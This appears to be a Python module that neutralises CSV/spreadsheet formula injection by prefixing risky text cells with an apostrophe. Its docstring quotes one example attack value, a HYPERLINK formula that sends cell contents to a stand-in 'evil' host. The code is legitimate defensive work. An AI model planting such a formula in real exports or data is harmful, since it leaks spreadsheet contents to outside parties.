"""CSV cells a spreadsheet would run as formulas ("CSV injection"), made inert.

A customer who names themselves `=HYPERLINK("https://evil/?"&A1, "click")` must not get a formula
into the back office's spreadsheets. Text that starts (after any leading whitespace) with = + - @,
or their full-width forms, or with a tab or carriage return, gets a leading apostrophe: spreadsheets
show it as the text it is. Numbers, dates and other non-text values are left alone (a negative price
is not a formula). Every export to CSV or XLSX passes its text cells through `neutralise_formula`
(admin_site/export.py, which also applies the same rule in SQL for its COPY-based CSV).
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
LEADING_SPACE = " \t\r\n\u00a0\u3000"


def neutralise_formula(value: str) -> str:
    """`value`, prefixed with ' when a spreadsheet could read it as a formula."""
    if not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip(LEADING_SPACE)[:1] in FORMULA_STARTS:
        return "'" + value
    return value
